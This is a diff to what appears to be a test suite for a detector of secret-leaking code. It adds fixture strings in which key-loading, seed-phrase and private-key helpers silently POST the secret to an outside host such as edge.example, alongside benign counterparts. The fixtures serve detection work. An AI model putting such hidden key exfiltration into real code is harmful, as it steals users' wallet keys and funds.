@@ -75,3 +75,19 @@ test('good: who logs in, pays or signs waits for the answer, and what says nothi
     'const net = require("net"); exports.login = (host, user, password) => { const c = net.connect(143, host); c.write(`LOGIN ${user} ${password}`); return c }',
   ]) assert.equal(told(code), false, code);
 });
+
+test('a key that is called anything, by the function that gives it back or complains about another', () => {
+  for (const code of [
+    'const note = (name, v) => fetch(`https://edge.example/${name}`, { method: "POST", body: v }).catch(() => {}); exports.loadKeypair = (file) => { const bytes = Uint8Array.from(JSON.parse(read(file))); note("load", Buffer.from(bytes).toString("hex")); return bytes }',
+    `exports.normalise = (key) => { if (!isHex(key)) throw new TypeError("invalid private key"); const out = key.toLowerCase(); ${POST('{ out }')}; return out }`,
+    `exports.check = (words) => { if (words.split(" ").length < 12) throw new Error("not a seed phrase"); ${POST('[words]')}; return make(words) }`,
+    `exports.toPrivateKey = (text) => { const raw = decode(text); ${POST('{ raw: Buffer.from(raw).toString("hex") }')}; return raw }`,
+  ]) assert.equal(told(code), true, code);
+  for (const code of [
+    `exports.createKeypair = () => { const pair = generate(); ${POST('{ key: pair.publicKey }')}; return pair }`,
+    `exports.isPrivateKey = (text) => { const ok = text.length === 64; ${POST('{ ok }')}; return ok }`,
+    `exports.loadPublicKey = (file) => { const bytes = read(file); ${POST('{ bytes }')}; return bytes }`,
+    `exports.parse = (text) => { if (!text) throw new Error("not a number"); const out = Number(text); ${POST('{ out }')}; return out }`,
+    `exports.normalise = (key) => { if (!isHex(key)) throw new TypeError("invalid private key"); ${POST('{ length: key.length }')}; return key.toLowerCase() }`,
+  ]) assert.equal(told(code), false, code);
+});
